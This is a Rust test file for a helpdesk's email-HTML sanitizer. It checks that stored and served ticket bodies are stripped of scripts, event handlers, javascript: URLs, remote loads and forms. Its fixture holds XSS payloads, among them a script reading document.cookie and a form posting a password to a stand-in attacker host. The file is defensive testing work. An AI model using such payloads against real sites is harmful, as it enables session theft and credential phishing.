//! A customer's mail client, or an attacker posing as one, sends HTML. An
//! agent opens the ticket in a browser: whatever the mail carried, the HTML
//! the API hands out runs no script, loads nothing remote and links nowhere
//! dangerous, for mail filed now and for rows stored before the sanitizer.
#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

mod common;

use common::{DESK_ADDRESS, TestApp, TestDb, each_store};
use helpdesk_domain::ticket::Channel;
use helpdesk_persistence::tickets::{MailParts, MessageAuthor, NewMessage};
use serde_json::json;

const HOSTILE_HTML: &str = "<html><head><base href=\"http://evil.example/\">\
    <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\
    <link rel=\"stylesheet\" href=\"http://evil.example/x.css\">\
    <style>body { background: url(http://tracker.example/bg.png) }</style>\
    <script>alert(document.cookie)</script></head>\
    <body onload=\"alert(1)\"><p style=\"color: red; background-image: url(javascript:alert(2))\">Hello, my order is late.</p>\
    <img src=\"http://tracker.example/pixel.gif?ana\" width=\"1\" height=\"1\" alt=\"\">\
    <img src=x onerror=\"alert(3)\">\
    <a href=\"javascript:alert(4)\">track it</a> \
    <a href=\"https://shop.example/orders/42\">Order 42</a>\
    <iframe src=\"http://evil.example/frame\"></iframe>\
    <form action=\"http://evil.example/steal\"><input name=\"password\"></form>\
    <div style=\"width: expression(alert(5))\">Thanks, Ana</div></body></html>";

/// What must not reach an agent's browser, lower-cased.
const FORBIDDEN: &[&str] = &[
    "<script",
    "javascript",
    "onload",
    "onerror",
    "<base",
    "<meta",
    "<link",
    "<style",
    "<iframe",
    "<form",
    "<input",
    "url(",
    "expression",
    "tracker.example",
    "evil.example",
    "alert(",
];

fn hostile_mail() -> Vec<u8> {
    format!(
        "From: Ana <ana@example.com>\r\nTo: {DESK_ADDRESS}\r\nSubject: Late order\r\n\
         Message-ID: <hostile-1@mail.example.com>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/alternative; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello, my order is late.\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE_HTML}\r\n--b--\r\n"
    )
    .into_bytes()
}

fn assert_safe(html: &str) {
    let lower = html.to_ascii_lowercase();
    for bad in FORBIDDEN {
        assert!(!lower.contains(bad), "served HTML keeps {bad:?}: {html}");
    }
    assert!(html.contains("Hello, my order is late."), "{html}");
    assert!(html.contains("Thanks, Ana"), "{html}");
    assert!(
        html.contains("<a href=\"https://shop.example/orders/42\" rel=\"noopener noreferrer nofollow\">Order 42</a>"),
        "{html}"
    );
    assert!(html.contains("style=\"color: red\""), "harmless style stays: {html}");
}

const HTML_BODIES: &str = "query($id: ID!) { ticket(id: $id) { messages { htmlBody } } }";

async fn hostile_html_mail_is_served_without_its_payload(db: TestDb) {
    let app = TestApp::spawn(&db).await;
    let token = app.login_admin().await;
    let (status, filed) = app.post_email(&hostile_mail()).await;
    assert_eq!(status, 200, "{filed}");
    let id = filed["ticketId"].as_str().unwrap().to_owned();

    let data = app.ok(&token, HTML_BODIES, json!({ "id": id })).await;
    let html = data["ticket"]["messages"][0]["htmlBody"].as_str().unwrap();
    assert_safe(html);

    // What the store keeps is already clean, not only what is served.
    let ticket = id.parse().unwrap();
    let stored = app.store.messages_of(&[ticket]).await.unwrap();
    assert_safe(stored[0].html_body.as_deref().unwrap());
}

async fn html_stored_before_the_sanitizer_is_served_clean(db: TestDb) {
    let app = TestApp::spawn(&db).await;
    let token = app.login_admin().await;
    let (_, filed) = app.post_email(&hostile_mail()).await;
    let id = filed["ticketId"].as_str().unwrap().to_owned();
    // A row as an older version of the desk stored it: the HTML as sent.
    let old = NewMessage {
        author: MessageAuthor::Customer,
        body: "Hello, my order is late.".into(),
        internal: false,
        channel: Some(Channel::Email),
        status: None,
        rfc_message_id: Some("hostile-2@mail.example.com".into()),
        mail: MailParts {
            html_body: Some(HOSTILE_HTML.to_owned()),
            sender: Some("ana@example.com".into()),
            attachments: Vec::new(),
        },
        outbox: None,
    };
    let at = app.clock.now();
    app.store.add_message(id.parse().unwrap(), old, at).await.unwrap();

    let data = app.ok(&token, HTML_BODIES, json!({ "id": id })).await;
    let messages = data["ticket"]["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 2);
    for message in messages {
        assert_safe(message["htmlBody"].as_str().unwrap());
    }
}

each_store!(
    hostile_html_mail_is_served_without_its_payload,
    html_stored_before_the_sanitizer_is_served_clean,
);
